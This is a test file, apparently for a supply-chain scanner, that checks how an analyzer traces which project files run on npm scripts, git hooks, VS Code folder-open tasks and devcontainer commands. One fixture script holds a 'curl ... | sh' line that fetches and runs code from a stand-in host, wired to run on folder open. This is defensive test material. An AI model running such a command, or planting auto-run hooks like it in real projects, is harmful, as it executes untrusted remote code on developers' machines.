import { describe, expect, it } from 'vitest'
import { commandEffects } from '../../src/analyze/project/commands.ts'
import { analyzeProjectRuns } from '../../src/analyze/project/runs.ts'
import { describeTrigger, triggerRank } from '../../src/analyze/project/triggers.ts'
import { isJsPath } from '../../src/analyze/entry-kinds.ts'
import type { PackageFile } from '../../src/types.ts'

function project(files: Record<string, string | object>) {
  const map = new Map<string, PackageFile>()
  const texts = new Map<string, string>()
  for (const [path, value] of Object.entries(files)) {
    const text = typeof value === 'string' ? value : JSON.stringify(value)
    map.set(path, { path, size: text.length, content: Buffer.from(text) })
    if (isJsPath(path)) texts.set(path, text)
  }
  return analyzeProjectRuns(map, texts)
}

const ctx = (scripts: string[] = [], files: string[] = []) => ({ dir: '', scriptNames: () => scripts, exists: (p: string) => files.includes(p) })

describe('commandEffects', () => {
  it('follows interpreters, watchers and their options to the file they run', () => {
    expect(commandEffects('node --inspect -r ./env.js server/index.js --port 3000', ctx()).files).toEqual(['env.js', 'server/index.js'])
    expect(commandEffects('nodemon --watch server -e js,json server/app.js', ctx()).files).toEqual(['server/app.js'])
    expect(commandEffects('nodemon --exec "ts-node src/main.ts"', ctx()).files).toContain('src/main.ts')
    expect(commandEffects('tsx watch src/index.ts', ctx()).files).toEqual(['src/index.ts'])
    expect(commandEffects('cross-env NODE_ENV=development PORT=3000 node ./bin/www', ctx()).files).toEqual(['bin/www'])
    expect(commandEffects('pm2 start ecosystem.config.js --env production', ctx()).files).toEqual(['ecosystem.config.js'])
  })

  it('splits concurrently and npm-run-all into their commands and scripts', () => {
    const both = commandEffects('concurrently -n api,web -c blue,green "node server/server.js" "next dev"', ctx())
    expect(both.files).toEqual(['server/server.js'])
    expect(both.tools.map((t) => t.tool)).toEqual(['next'])
    expect(commandEffects('concurrently "npm:api" "npm:web:*"', ctx(['api', 'web:client', 'web:admin', 'lint'])).scripts.map((s) => s.name)).toEqual(['api', 'web:client', 'web:admin'])
    expect(commandEffects('run-p dev:* lint', ctx(['dev:api', 'dev:ui', 'lint'])).scripts.map((s) => s.name)).toEqual(['dev:api', 'dev:ui', 'lint'])
  })

  it('tracks cd, --prefix and installs in sub-projects', () => {
    const effects = commandEffects('cd backend && npm install && npm run dev --prefix ../frontend && node server.js', ctx())
    expect(effects.installs).toEqual(['backend'])
    expect(effects.scripts).toEqual([{ dir: 'frontend', name: 'dev' }])
    expect(effects.files).toEqual(['backend/server.js'])
    expect(commandEffects('yarn --cwd client start', ctx()).scripts).toEqual([{ dir: 'client', name: 'start' }])
  })

  it('takes inline code, shell scripts, npx tools and hook paths', () => {
    expect(commandEffects(`node -e "require('./x')"`, ctx()).inline).toEqual([`require('./x')`])
    expect(commandEffects('bash ./scripts/setup.sh --quiet', ctx()).shellFiles).toEqual(['scripts/setup.sh'])
    expect(commandEffects('npx --no -- commitlint --edit "$1"', ctx()).tools.map((t) => t.tool)).toEqual(['commitlint'])
    expect(commandEffects('webpack --config build/webpack.dev.js', ctx()).tools).toEqual([{ tool: 'webpack', dir: '', config: 'build/webpack.dev.js' }])
    expect(commandEffects('git config core.hooksPath .githooks', ctx()).hooksPaths).toEqual(['.githooks'])
  })

  it('is bounded on hostile input', () => {
    const long = `${'concurrently "'.repeat(200)}node x.js${'"'.repeat(200)}`
    expect(() => commandEffects(long, ctx())).not.toThrow()
    expect(() => commandEffects('a'.repeat(200_000), ctx())).not.toThrow()
  })
})

describe('analyzeProjectRuns', () => {
  const repo = {
    'package.json': { name: 'x', main: 'app.js', scripts: { dev: 'concurrently "node server/server.js" "vite"', start: 'npm run dev', build: 'vite build', postinstall: 'cd backend && npm install', release: 'np', prepublishOnly: 'node scripts/publish.js' } },
    'server/server.js': "require('./boot')\nconst util = require('../lib/util')",
    'server/boot.js': 'module.exports = 1',
    'lib/util.js': '',
    'vite.config.js': "import plugin from './plugins/p.js'",
    'plugins/p.js': '',
    'tailwind.config.js': '',
    'eslint.config.mjs': '',
    'app.js': "require('./server/server.js')",
    'scripts/publish.js': '',
    'backend/package.json': { scripts: { postinstall: 'node scripts/setup.js', start: 'nodemon index.js' } },
    'backend/scripts/setup.js': '',
    'backend/index.js': '',
    '.vscode/tasks.json': `{ // comments and trailing commas
      "tasks": [
        { "label": "a", "command": "node", "args": [".vscode/x.js"], "runOptions": { "runOn": "folderOpen" }, "dependsOn": "b" },
        { "label": "b", "type": "shell", "command": "sh ./tools/go.sh" },
        { "label": "c", "type": "shell", "command": "node tools/manual.js" },
      ],
    }`,
    '.vscode/x.js': '',
    'tools/go.sh': '#!/bin/sh\ncurl http://192.0.2.1/x | sh\nnode -e "eval(1)"\n',
    'tools/manual.js': '',
    '.git/hooks/post-checkout': '#!/bin/sh\nnode tools/hook.js\n',
    '.git/hooks/not-a-hook': 'node tools/never.js',
    '.husky/pre-commit': 'npx lint-staged\n',
    '.lintstagedrc.js': '',
    'tools/hook.js': '',
    'tools/never.js': '',
    '.devcontainer/devcontainer.json': '{"postCreateCommand": "npm install && node tools/dc.js", "initializeCommand": ["bash", "-c", "echo hi"]}',
    'tools/dc.js': '',
  }
  const runs = project(repo)

  it('says which ordinary action runs each file', () => {
    expect(Object.fromEntries(runs.runs)).toMatchObject({
      'server/server.js': 'npm-script:dev',
      'server/boot.js': 'npm-script:dev',
      'lib/util.js': 'npm-script:dev',
      'vite.config.js': 'npm-script:dev',
      'plugins/p.js': 'npm-script:dev',
      'tailwind.config.js': 'npm-script:dev',
      'eslint.config.mjs': 'tool-config:eslint',
      'app.js': 'import',
      'backend/scripts/setup.js': 'npm-install',
      'backend/index.js': 'npm-script:start',
      '.vscode/tasks.json': 'folder-open',
      '.vscode/x.js': 'folder-open',
      'tools/go.sh': 'folder-open',
      '.git/hooks/post-checkout': 'git-hook:post-checkout',
      'tools/hook.js': 'git-hook:post-checkout',
      '.husky/pre-commit': 'git-hook:pre-commit',
      '.lintstagedrc.js': 'git-hook:pre-commit',
      'tools/dc.js': 'devcontainer:postCreateCommand',
      '.devcontainer/devcontainer.json': 'devcontainer:initializeCommand',
      'package.json': 'npm-install',
    })
    // tasks run on demand, maintainer scripts and files named like hooks that git does not run
    for (const path of ['tools/manual.js', 'scripts/publish.js', 'tools/never.js']) expect(runs.runs.has(path), path).toBe(false)
  })

  it('lists the commands with where they are written, and the inline code', () => {
    const lines = runs.commands.map((c) => `${c.runs} ${c.file}${c.line ? `:${c.line}` : ''} ${c.label}: ${c.command}`)
    expect(lines).toContain('folder-open tools/go.sh:2 go.sh: curl http://192.0.2.1/x | sh')
    expect(lines).toContain('npm-script:dev package.json scripts.dev: concurrently "node server/server.js" "vite"')
    expect(lines).toContain('devcontainer:initializeCommand .devcontainer/devcontainer.json initializeCommand: bash -c \'echo hi\'')
    expect(runs.inline).toEqual([{ path: 'tools/go.sh#L3', code: 'eval(1)', runs: 'folder-open' }])
  })

  it('reads a hook with a node shebang as JavaScript', () => {
    const hooked = project({ '.git/hooks/pre-push': '#!/usr/bin/env node\nrequire("./lib")', 'package.json': { name: 'x' } })
    expect(hooked.scriptSources).toEqual(['.git/hooks/pre-push'])
    expect(hooked.runs.get('.git/hooks/pre-push')).toBe('git-hook:pre-push')
  })

  it('runs npm start as node server.js when there is no start script', () => {
    expect(project({ 'package.json': { name: 'x' }, 'server.js': "require('./routes')", 'routes.js': '' }).runs.get('routes.js')).toBe('npm-script:start')
  })

  it('follows hook directories that a script sets, and programs that workspace settings point at', () => {
    const r = project({
      'package.json': { name: 'x', scripts: { prepare: 'git config core.hooksPath .githooks' } },
      '.githooks/post-checkout': '#!/bin/sh\nnode scripts/sync.js\n',
      'scripts/sync.js': '',
      '.vscode/settings.json': '{ "eslint.nodePath": "./tools/eslint-shim.js", "typescript.tsdk": "node_modules/typescript/lib", "editor.tabSize": 2 }',
      'tools/eslint-shim.js': '',
    })
    expect(r.runs.get('scripts/sync.js')).toBe('git-hook:post-checkout')
    expect(r.runs.get('tools/eslint-shim.js')).toBe('folder-open')
    expect(r.runs.get('.vscode/settings.json')).toBe('folder-open')
  })

  it('survives broken JSON and cycles', () => {
    const broken = project({ 'package.json': '{ not json', '.vscode/tasks.json': '{"tasks": [', 'a.js': "require('./b')", 'b.js': "require('./a')", 'sub/package.json': { scripts: { a: 'npm run b', b: 'npm run a' } } })
    expect(broken.commands.length).toBeLessThan(10)
  })
})

describe('triggers', () => {
  it('ranks the most automatic first and describes each', () => {
    expect(triggerRank('folder-open')).toBeLessThan(triggerRank('npm-install'))
    expect(triggerRank('npm-script:dev')).toBeLessThan(triggerRank('npm-script:lint'))
    expect(triggerRank('tool-config:next')).toBeLessThan(triggerRank('import'))
    expect(describeTrigger('npm-script:start')).toBe('on `npm start`')
    expect(describeTrigger('npm-script:dev')).toBe('on `npm run dev`')
    expect(describeTrigger('git-hook:post-merge')).toContain('git pull')
  })
})
